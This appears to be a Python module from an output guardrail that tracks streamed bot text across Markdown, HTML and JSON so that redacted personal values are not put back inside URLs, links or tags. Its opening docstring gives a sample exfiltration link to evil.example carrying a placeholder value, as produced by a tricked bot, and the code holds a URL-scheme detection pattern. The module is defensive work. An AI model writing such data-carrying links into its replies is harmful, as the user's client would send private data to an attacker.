"""Where in a bot's text a value must not return: links, tags and code, tracked as the text arrives.

A bot that was tricked can write ``https://evil.example/?q=<PERSON_1>`` or an image link of that kind; the
person's client would then fetch it and carry the value away. The trackers below read Markdown (CommonMark
0.31, with GitHub's autolinks) and HTML at once and err on the strict side: each of them must agree that a
place is ordinary text. They are fed any pieces and never depend on where the pieces were cut.
"""

from __future__ import annotations

import html
import re

from guardrail.core.markdown import Markdown
from guardrail.core.tags import Tags
from guardrail.types import Markup

_SCHEMES = (
    "blob|callto|ftps?|https?|intent|javascript|magnet|mailto|sip|sms|ssh|urn|vbscript|view-source|whatsapp|wss?|xmpp"
)
# Also words of ordinary text ("Tel:<PHONE_NUMBER_1>"): a value may follow them at once, but not further on.
_WORDS = "about|data|facetime|file|geo|irc|line|market|msteams|skype|slack|tel|tg|viber|weixin"
# Every pattern is bounded, so that looking at the last _WINDOW characters of a word misses nothing.
_URL = re.compile(
    rf"[/\\][/\\]|(?:^|[^a-z0-9])(?:(?:{_SCHEMES}):|(?:{_WORDS}):(?=.)|www\.)"
    r"|[^\W_]\.[\w-]{1,63}(?::\d{0,5})?[/?#\\]",
    re.IGNORECASE,
)
_JSON_ESCAPE = re.compile(r"\\(?:u([0-9a-fA-F]{4})|(/))")
_WINDOW = 512
_SPACES = re.compile(r"[ \t\n\f\r\v]")


class Word:
    """The text since the last white space: is it, so far, part of a URL?

    Only ASCII white space ends a URL, because that is all that ends one in GitHub's autolinks; text that
    follows a link without a space (as Chinese may) counts as part of it.
    """

    __slots__ = ("_tail", "_url")

    def __init__(self) -> None:
        self._tail = ""
        self._url = False

    def feed(self, text: str) -> None:
        cut = max(map(text.rfind, " \n\t\r\f\v"))
        if cut >= 0:
            self._tail, self._url = "", False
            text = text[cut + 1 :]
        self._tail += text
        while len(self._tail) > 2 * _WINDOW:
            self._url = self._url or _is_url(self._tail[: 2 * _WINDOW])
            self._tail = self._tail[_WINDOW:]

    @property
    def is_url(self) -> bool:
        return self._url or _is_url(self._tail)


def _is_url(word: str) -> bool:
    if _URL.search(word):
        return True
    if "&" not in word and "\\" not in word:
        return False
    plain = _JSON_ESCAPE.sub(lambda m: m[2] or chr(int(m[1], 16)), word)
    return _URL.search(plain) is not None or _URL.search(html.unescape(plain)) is not None


class Context:
    """What surrounds a place in a bot's text, from its beginning on."""

    def __init__(self, *, lenient: bool = False) -> None:
        self._lenient = lenient
        self._word = Word()
        self._markdown = Markdown()
        self._tags = Tags(lenient=lenient)

    @property
    def last(self) -> str:
        """The character before the place; a line break at the beginning."""
        return self._markdown.last

    def feed(self, text: str) -> None:
        """The bot wrote this."""
        self._word.feed(text)
        self._markdown.feed(text)
        self._tags.feed(text)

    def restored(self, text: str) -> None:
        """A value was put here. It is escaped, so only a URL can begin with it."""
        self._word.feed(text)
        self._markdown.feed("x")

    def blocked(self) -> bool:
        """Whether no value may be put at this place."""
        return self._markdown.blocked() or self._tags.blocked() or self._word.is_url

    def levels(self) -> int:
        """How often a value is to be escaped as the content of a JSON string here."""
        return 0


_UNIT = re.compile(r'\\u[0-9a-fA-F]{4}|\\u[0-9a-fA-F]{0,3}\Z|\\[^u]|\\\Z|"|[^\\"]+|\\', re.DOTALL)
_SHORT = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}


class JsonContext(Context):
    """The same inside a JSON text: each string is a text of its own, read with its escapes resolved.

    Also in a string that is itself JSON (tool arguments are often quoted twice) a value is escaped as
    often as its place asks for.
    """

    def __init__(self) -> None:
        self._reset()

    def _reset(self) -> None:
        super().__init__()
        self._in_string = False
        self._cut = ""  # an escape whose end has not come
        self._nested = False  # the string is JSON itself
        self._begun = False
        self._in_nested_string = False
        self._nested_escape = False

    def feed(self, text: str) -> None:
        text, self._cut = self._cut + text, ""
        for unit in _UNIT.finditer(text):
            piece = unit[0]
            if not self._in_string:
                self._in_string = piece == '"'
            elif piece == '"':
                self._reset()
            elif (
                piece[0] == "\\"
                and unit.end() == len(text)
                and (len(piece) == 1 or (piece[1] == "u" and len(piece) < 6))
            ):
                self._cut = piece
            else:
                self._read(_resolved(piece))

    def blocked(self) -> bool:
        return not self._in_string or bool(self._cut) or super().blocked()

    def levels(self) -> int:
        return 2 if self._nested and self._in_nested_string else 1

    def _read(self, text: str) -> None:
        super().feed(text)
        if not self._begun and (inner := text.lstrip()):
            self._begun, self._nested = True, inner[0] in "{["
        if self._nested:
            for char in text:
                if char == '"' and not self._nested_escape:
                    self._in_nested_string = not self._in_nested_string
                self._nested_escape = char == "\\" and not self._nested_escape


def _resolved(piece: str) -> str:
    if piece[0] != "\\" or len(piece) < 2:
        return piece
    return chr(int(piece[2:], 16)) if len(piece) == 6 else _SHORT.get(piece[1], piece[1])


def context(markup: Markup) -> Context:
    """The context tracker for a text in this language."""
    return JsonContext() if markup is Markup.JSON else Context(lenient=markup is Markup.PLAIN)
